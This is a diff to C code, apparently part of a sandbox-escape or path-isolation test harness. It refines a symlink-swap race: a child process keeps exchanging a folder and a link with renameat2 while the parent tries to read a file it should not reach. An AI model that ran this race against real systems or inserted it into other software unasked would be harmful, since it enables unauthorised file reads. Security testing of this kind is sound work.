@@ -2,6 +2,8 @@
 #include "attack.h"
 
 #include <dirent.h>
+#include <sched.h>
+#include <sys/mman.h>
 #include <sys/prctl.h>
 
 #ifndef RENAME_EXCHANGE
@@ -96,18 +98,20 @@ static int read_in_a_race(void)
     int result = write_file(file, O_WRONLY | O_CREAT, "my own");
     if (result)
         return result;
-    pid_t swapper = fork();
+    volatile int *swaps = mmap(NULL, sizeof *swaps, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
+    pid_t swapper = swaps == MAP_FAILED ? -1 : fork();
     if (swapper < 0)
         return errno;
     if (swapper == 0)
-        for (prctl(PR_SET_PDEATHSIG, SIGKILL);;)
+        for (prctl(PR_SET_PDEATHSIG, SIGKILL);; ++*swaps)
             syscall(SYS_renameat2, AT_FDCWD, folder, AT_FDCWD, link, RENAME_EXCHANGE);
     result = ENOENT;
-    for (int i = 0; i < RACES && result; i++) {
+    while (result && *swaps < RACES) {
         char bytes[256] = "my own";
         int fd = open(file, O_RDONLY | O_CLOEXEC);
         if (fd < 0) {
             result = errno;
+            sched_yield();
             continue;
         }
         ssize_t length = read(fd, bytes, sizeof bytes);
@@ -115,8 +119,6 @@ static int read_in_a_race(void)
         if (length > 0 && strncmp(bytes, "my own", 6)) {
             say_bytes(bytes, length);
             result = 0;
-        } else if (!result) {
-            result = ENOENT;
         }
     }
     kill(swapper, SIGKILL);
